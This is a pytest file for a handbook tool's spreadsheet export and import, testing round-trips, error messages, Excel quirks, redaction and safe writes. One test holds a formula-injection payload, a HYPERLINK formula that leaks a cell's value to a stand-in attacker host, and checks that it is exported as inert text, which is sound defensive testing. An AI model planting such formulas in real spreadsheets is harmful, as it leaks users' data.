"""Spreadsheets in and out: `playbook export` and `playbook import`, on real files.

Workbooks are written and read with openpyxl (the library Excel files are checked with
here), CSV with the standard library; every import goes through the real loader.
"""

from __future__ import annotations

import datetime as dt
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from generator.reading.loader import load_handbook
from generator.spreadsheets.layout import workbook_layout
from tests.conftest import REPO, copy_sample, run_cli, write_handbook

HOSTILE = REPO / "tests" / "fixtures" / "hostile"


def _files(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes()
        for folder in ("clients", "industries")
        for p in sorted((root / folder).glob("*.yaml"))
        if p.is_file()
    }


def _same_models(a: Path, b: Path) -> None:
    left, right = load_handbook(a), load_handbook(b)
    assert left.clients.keys() == right.clients.keys()
    assert left.industries.keys() == right.industries.keys()
    for key, entry in left.clients.items():
        assert right.clients[key].data == entry.data, key
    for key, entry in left.industries.items():
        assert right.industries[key].data == entry.data, key


def _client_row(book, client_id: str) -> tuple[list[str], tuple]:
    """The `clients` sheet's headers, and the cells of one client's row."""
    clients = book["clients"]
    headers = [c.value for c in clients[1]]
    return headers, next(r for r in clients.iter_rows(min_row=3) if r[0].value == client_id)


@pytest.fixture
def sample(tmp_path: Path) -> Path:
    return copy_sample(tmp_path / "sample")


@pytest.fixture
def empty(tmp_path: Path) -> Path:
    return write_handbook(tmp_path / "empty")


def _hostile(tmp_path: Path) -> Path:
    root = write_handbook(tmp_path / "hostile")
    for folder in ("clients", "industries"):
        shutil.copytree(HOSTILE / folder, root / folder, dirs_exist_ok=True)
    return root


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
@pytest.mark.parametrize("source", ["sample", "hostile"])
def test_export_then_import_gives_back_every_file(tmp_path, empty, kind, source) -> None:
    root = copy_sample(tmp_path / "s") if source == "sample" else _hostile(tmp_path)
    target = tmp_path / ("book.xlsx" if kind == "xlsx" else "book")
    assert run_cli("export", "--root", str(root), str(target)).exit_code == 0
    result = run_cli("import", "--lang", "en", "--root", str(empty), str(target))
    assert result.exit_code == 0, result.output
    assert "created    clients/" in result.output
    _same_models(root, empty)
    for text in (p.read_text("utf-8") for p in (empty / "clients").glob("*.yaml")):
        assert text.startswith("# yaml-language-server: $schema=../schemas/client.zh.schema.json\n")

    again = run_cli("import", "--lang", "en", "--root", str(empty), str(target))
    assert again.exit_code == 0
    assert "0 created, 0 changed" in again.output and "0 left alone" in again.output


def test_the_workbook_is_pleasant_and_typed(sample, tmp_path) -> None:
    target = tmp_path / "book.xlsx"
    run_cli("export", "--root", str(sample), str(target))
    book = load_workbook(target)
    assert book.sheetnames == [sheet.name for sheet in workbook_layout()]
    contacts = book["contacts"]
    assert [c.value for c in contacts[1]][:3] == ["client", "id", "name"]
    assert [c.value for c in contacts[2]][:3] == ["客户标识(文件名)", "标识(英文小写)", "姓名"]
    assert contacts.freeze_panes == "B3"
    roles = [v for v in contacts.data_validations.dataValidation if "decision_maker" in v.formula1]
    assert roles and roles[0].type == "list"
    history = book["history"]
    assert history["B3"].is_date and isinstance(history["B3"].value, dt.datetime)
    assert book["projects.milestones"]["A1"].value == "client"
    assert book["projects.milestones"]["B1"].value == "project"


def test_no_text_is_exported_as_a_formula(handbook, tmp_path, empty) -> None:
    attack = '=HYPERLINK("https://evil.example/?"&A1,"点击")'
    root = handbook(
        clients={
            "a.yaml": "name: A\nindustry: fmcg\ntier: B\nstatus: active\nteam:\n  lead: 王芳\n"
            f"summary: '{attack}'\n"
            "preferences:\n  taboos: ['+1 不要报价', '@所有人', '-先别说']\n"
        },
        industries={"fmcg.yaml": "name: 快消\n"},
    )
    run_cli("export", "--root", str(root), str(tmp_path / "b.xlsx"))
    cells = {c.value: c for row in load_workbook(tmp_path / "b.xlsx")["clients"] for c in row}
    assert cells[attack].data_type == "s"  # a string cell: Excel shows it, never runs it
    run_cli("export", "--root", str(root), str(tmp_path / "csv"))
    text = (tmp_path / "csv" / "clients.csv").read_text("utf-8-sig")
    assert "'=HYPERLINK" in text and ",=" not in text
    assert "'+1 不要报价" in text
    for source in ("b.xlsx", "csv"):
        shutil.rmtree(empty / "clients")
        (empty / "clients").mkdir()
        assert (
            run_cli(
                "import", "--lang", "en", "--root", str(empty), str(tmp_path / source)
            ).exit_code
            == 0
        )
        client = load_handbook(empty).clients["a"].data
        assert client.summary == attack
        assert client.preferences.taboos == ["+1 不要报价", "@所有人", "-先别说"]


def test_broken_cells_are_all_named_and_nothing_is_written(sample, tmp_path, empty) -> None:
    target = tmp_path / "book.xlsx"
    run_cli("export", "--root", str(sample), str(target))
    book = load_workbook(target)
    book["contacts"]["E3"] = "boss"  # role
    book["projects"]["E3"] = "2026/13/40"  # start
    book["dates"]["C3"] = None  # a required title
    book["history"]["A5"] = "no-such-client"
    book.save(target)
    before = _files(empty)
    result = run_cli("import", "--lang", "en", "--root", str(empty), str(target))
    assert result.exit_code == 1
    lines = result.output.splitlines()
    assert any(
        re.match(r"book\.xlsx!contacts!E3: contacts\[0\]\.role: expected one of .*'boss'", line)
        for line in lines
    ), lines
    assert any(line.startswith("book.xlsx!projects!E3: projects[0].start: ") for line in lines)
    assert "book.xlsx!dates!C3: dates[0].title: the required field `title` is missing" in lines
    assert any(line.startswith("book.xlsx!history!A5: client: no row with id") for line in lines)
    assert lines[-1] == "4 problems found; nothing was written."
    assert _files(empty) == before
    assert "Traceback" not in result.output


def test_update_changes_only_what_the_sheet_changes(sample, tmp_path) -> None:
    path = sample / "clients" / "qingfeng-auto.yaml"
    original = path.read_text("utf-8")
    path.write_text("# 注释:保留\n" + original, encoding="utf-8")
    target = tmp_path / "book.xlsx"
    run_cli("export", "--root", str(sample), str(target))
    book = load_workbook(target)
    headers, row = _client_row(book, "qingfeng-auto")
    row[headers.index("tier")].value = "B"
    book.save(target)

    before = _files(sample)
    plain = run_cli("import", "--lang", "en", "--root", str(sample), str(target))
    assert plain.exit_code == 0
    assert "left alone clients/qingfeng-auto.yaml" in plain.output
    assert _files(sample) == before

    updated = run_cli("import", "--lang", "en", "--update", "--root", str(sample), str(target))
    assert updated.exit_code == 0, updated.output
    assert "changed    clients/qingfeng-auto.yaml (1 value)" in updated.output
    after = path.read_text("utf-8")
    old_lines, new_lines = ("# 注释:保留\n" + original).splitlines(), after.splitlines()
    assert len(old_lines) == len(new_lines)
    assert [(a, b) for a, b in zip(old_lines, new_lines, strict=True) if a != b] == [
        ("tier: A", "tier: B")
    ]
    others = {k: v for k, v in _files(sample).items() if "qingfeng" not in k}
    assert others == {k: v for k, v in before.items() if "qingfeng" not in k}
    assert (
        "0 changed"
        in run_cli("import", "--lang", "en", "--update", "--root", str(sample), str(target)).output
    )


def test_a_sheet_left_out_leaves_its_values_alone(sample, tmp_path) -> None:
    target = tmp_path / "book.xlsx"
    run_cli("export", "--root", str(sample), str(target))
    book = load_workbook(target)
    for name in book.sheetnames:
        if name != "clients":
            del book[name]
    book.save(target)
    before = _files(sample)
    result = run_cli("import", "--lang", "en", "--update", "--root", str(sample), str(target))
    assert result.exit_code == 0, result.output
    assert _files(sample) == before  # contacts, projects … all kept


def test_what_spreadsheets_do_to_values_is_undone(sample, tmp_path, empty) -> None:
    target = tmp_path / "book.xlsx"
    run_cli("export", "--root", str(sample), str(target))
    book = load_workbook(target)
    headers, row = _client_row(book, "qingfeng-auto")
    row[0].value = "  qingfeng-auto "  # padded id
    row[headers.index("status")].value = "ａｃｔｉｖｅ"  # full-width, from a Chinese IME
    row[headers.index("since")].value = 44936  # an Excel serial day: 2023-01-10
    row[headers.index("tier")].value = "A"
    contacts = book["contacts"]
    rows_of = [r[0].row for r in contacts.iter_rows(min_row=3) if r[0].value == "qingfeng-auto"]
    for number in rows_of[1:]:
        contacts.cell(number, 1).value = None
    contacts.merge_cells(f"A{rows_of[0]}:A{rows_of[-1]}")  # one merged cell for the client
    contacts.insert_rows(rows_of[-1] + 1, 2)  # empty rows in the middle
    contacts.cell(contacts.max_row + 5, 3).value = "   "  # a trailing blank
    book.save(target)
    result = run_cli("import", "--lang", "en", "--root", str(empty), str(target))
    assert result.exit_code == 0, result.output
    _same_models(sample, empty)


def _saved_value(target: Path, sheet: str, formula: bytes, value: bytes) -> None:
    """Put the value Excel saves beside a formula into the file (openpyxl never computes one)."""
    with zipfile.ZipFile(target) as source:
        contents = {name: source.read(name) for name in source.namelist()}
    index = load_workbook(target, read_only=True).sheetnames.index(sheet) + 1
    xml = f"xl/worksheets/sheet{index}.xml"
    assert b"<f>" + formula + b"</f><v />" in contents[xml]
    contents[xml] = contents[xml].replace(
        b"<f>" + formula + b"</f><v />", b"<f>" + formula + b"</f><v>" + value + b"</v>"
    )
    with zipfile.ZipFile(target, "w") as out:
        for name, data in contents.items():
            out.writestr(name, data)


def test_formulas_are_read_as_saved_values_never_evaluated(sample, tmp_path, empty) -> None:
    target = tmp_path / "book.xlsx"
    run_cli("export", "--root", str(sample), str(target))
    book = load_workbook(target)
    kpis = book["projects.kpis"]
    assert (kpis["C1"].value, kpis["D1"].value, kpis["E1"].value) == ("name", "target", "actual")
    kpis["D3"] = "=2*3"  # its saved value (6) is read; 2*3 is never computed here
    kpis["E3"] = "=1/0"  # no saved value: said, not guessed
    book.save(target)
    _saved_value(target, "projects.kpis", b"2*3", b"6")
    result = run_cli("import", "--lang", "en", "--root", str(empty), str(target))
    assert result.exit_code == 1
    assert "book.xlsx!projects.kpis!E3: a formula whose value was never saved" in result.output
    assert result.output.splitlines()[-1] == "1 problem found; nothing was written."

    _saved_value(target, "projects.kpis", b"1/0", b"5")
    result = run_cli("import", "--lang", "en", "--root", str(empty), str(target))
    assert result.exit_code == 0, result.output
    kpis_read = [
        k for e in load_handbook(empty).clients.values() for p in e.data.projects for k in p.kpis
    ]
    assert any(k.target == 6 and k.actual == 5 for k in kpis_read)


def test_csv_in_gbk_is_detected_and_said(sample, tmp_path, empty) -> None:
    folder = tmp_path / "csv"
    run_cli("export", "--root", str(sample), str(folder))
    for path in folder.glob("*.csv"):
        path.write_bytes(path.read_text("utf-8-sig").encode("gb18030"))
    result = run_cli("import", "--lang", "en", "--root", str(empty), str(folder))
    assert result.exit_code == 0, result.output
    assert "csv/clients.csv: read as GB18030 (GBK)" in result.output
    _same_models(sample, empty)


def test_redacted_export_leaves_out_personal_data(sample, tmp_path) -> None:
    run_cli("export", "--redact", "--root", str(sample), str(tmp_path / "csv"))
    full = load_handbook(sample)
    emails = [c.email for e in full.clients.values() for c in e.data.contacts if c.email]
    assert emails
    text = "".join(p.read_text("utf-8-sig") for p in (tmp_path / "csv").glob("*.csv"))
    assert not [email for email in emails if email in text]
    secret = [e.id for e in full.clients.values() if e.data.confidential]
    assert secret and not [i for i in secret if f"\n{i}," in text]


def test_template_has_every_sheet_with_one_example_that_imports(tmp_path, empty) -> None:
    target = tmp_path / "template.xlsx"
    result = run_cli("import", "--lang", "en", "--template", "--root", str(empty), str(target))
    assert result.exit_code == 0, result.output
    book = load_workbook(target)
    for sheet in workbook_layout():
        rows = list(book[sheet.name].iter_rows(min_row=3, values_only=True))
        assert len(rows) == 1 and any(rows[0]), sheet.name
    imported = run_cli("import", "--lang", "en", "--root", str(empty), str(target))
    assert imported.exit_code == 0, imported.output
    assert "created    clients/example-client.yaml" in imported.output


def test_unknown_sheets_and_columns_are_named(sample, tmp_path, empty) -> None:
    target = tmp_path / "book.xlsx"
    run_cli("export", "--root", str(sample), str(target))
    book = load_workbook(target)
    book["contacts"]["C1"] = "nmae"
    book.create_sheet("联系人2")["A1"] = "x"
    book.save(target)
    result = run_cli("import", "--lang", "en", "--root", str(empty), str(target))
    assert result.exit_code == 1
    assert "book.xlsx!contacts!C1: unknown column `nmae`; did you mean `name`?" in result.output
    assert "book.xlsx!联系人2: unknown sheet" in result.output


def test_the_editing_guide_shows_the_spreadsheet_path(sample_site) -> None:
    guide = (sample_site / "playbook" / "editing" / "index.html").read_text("utf-8")
    assert "playbook import --template" in guide
    assert "!contacts!E12" in guide


def test_rows_without_ids_get_pinyin_ids_from_their_names(sample, tmp_path, empty) -> None:
    """An account manager's sheet names clients and contacts; the ids are made for them."""
    target = tmp_path / "book.xlsx"
    run_cli("export", "--root", str(sample), str(target))
    book = load_workbook(target)
    _, row = _client_row(book, "dingsheng-beverage")
    row[0].value = None  # no id: made from 鼎盛饮料集团
    for sheet in book.worksheets[1:]:
        headers = [c.value for c in sheet[1]]
        for cells in sheet.iter_rows(min_row=3):
            if cells[0].value == "dingsheng-beverage":
                cells[0].value = "鼎盛饮料集团"  # rows name their client as people do
                if sheet.title == "contacts":
                    cells[headers.index("id")].value = None  # made from 蒋思琪 and the others
    book.save(target)
    result = run_cli("import", "--root", str(empty), str(target))
    assert result.exit_code == 0, result.output
    assert "标识按名称“鼎盛饮料集团”的拼音生成:dingsheng-yinliao-jituan" in result.output
    imported = load_handbook(empty).clients["dingsheng-yinliao-jituan"].data
    original = load_handbook(sample).clients["dingsheng-beverage"].data
    assert [c.id for c in imported.contacts] == [
        "jiang-siqi",
        "shao-lei",
        "ge-li",
        "shi-gang",
        "ke-jun",
    ]
    assert imported == original  # the sample's ids are what pinyin makes of the names


def test_an_import_that_fails_part_way_writes_nothing(sample, tmp_path, empty) -> None:
    """The last file cannot be written (its name is taken by a folder): the files before it
    are taken back, and the handbook is as it was."""
    target = tmp_path / "book.xlsx"
    run_cli("export", "--root", str(sample), str(target))
    (empty / "clients" / "xinghe-tech.yaml").mkdir()  # sorted last of the sample's clients
    before = _files(empty)
    result = run_cli("import", "--root", str(empty), str(target))
    assert result.exit_code == 1, result.output
    assert "无法写入" in result.output and "xinghe-tech.yaml" in result.output
    assert "Traceback" not in result.output
    assert _files(empty) == before
    assert not [p for p in (empty / "clients").iterdir() if p.name.startswith(".")]  # no leftovers


def test_a_form_save_during_an_import_is_never_overwritten(sample, tmp_path, monkeypatch) -> None:
    """The import reads the files, checks (the long part), then writes. A save in the form
    that lands while it checks keeps its change: the import writes nothing and says so."""
    from generator.editor.backend import LocalBackend
    from generator.writing.files import HandbookFiles, version

    target = tmp_path / "book.xlsx"
    run_cli("export", "--root", str(sample), str(target))
    book = load_workbook(target)
    headers, row = _client_row(book, "qingfeng-auto")
    row[headers.index("tier")].value = "B"
    book.save(target)
    path = sample / "clients" / "qingfeng-auto.yaml"
    original = path.read_text("utf-8")
    saved_in_the_form = original.replace("tier: A", "tier: C")
    checking = HandbookFiles.new_problems
    saves: list[str] = []

    def a_save_lands_while_the_import_checks(self, pending):
        if not saves:
            saves.append("the form's save")
            LocalBackend(HandbookFiles(sample)).persist(
                {
                    "dataFiles": [
                        {
                            "path": "clients/qingfeng-auto.yaml",
                            "raw": saved_in_the_form,
                            "base": version(original),
                        }
                    ]
                }
            )
        return checking(self, pending)

    monkeypatch.setattr(HandbookFiles, "new_problems", a_save_lands_while_the_import_checks)
    result = run_cli("import", "--update", "--root", str(sample), str(target))
    assert result.exit_code == 1, result.output
    assert "导入期间有文件被别人修改了" in result.output and "Traceback" not in result.output
    assert path.read_text("utf-8") == saved_in_the_form


def test_a_phone_the_spreadsheet_turned_into_a_number_is_said(sample, tmp_path) -> None:
    """Found trying the import as an account manager: Excel keeps a typed 02161234567 as the
    number 2161234567; the import takes it as text (as the format wants) and says which cell
    may have lost its 0."""
    target = tmp_path / "book.xlsx"
    run_cli("export", "--root", str(sample), str(target))
    book = load_workbook(target)
    contacts = book["contacts"]
    headers = [c.value for c in contacts[1]]
    row = next(r for r in contacts.iter_rows(min_row=3) if r[headers.index("phone")].value)
    row[headers.index("phone")].value = 2161234567
    where = row[headers.index("phone")].coordinate
    book.save(target)
    result = run_cli("import", "--update", "--root", str(sample), str(target))
    assert result.exit_code == 0, result.output
    assert f"contacts!{where}:这一格在表格里是数字 2161234567" in result.output, result.output
    client = row[0].value
    assert 'phone: "2161234567"' in (sample / "clients" / f"{client}.yaml").read_text("utf-8")
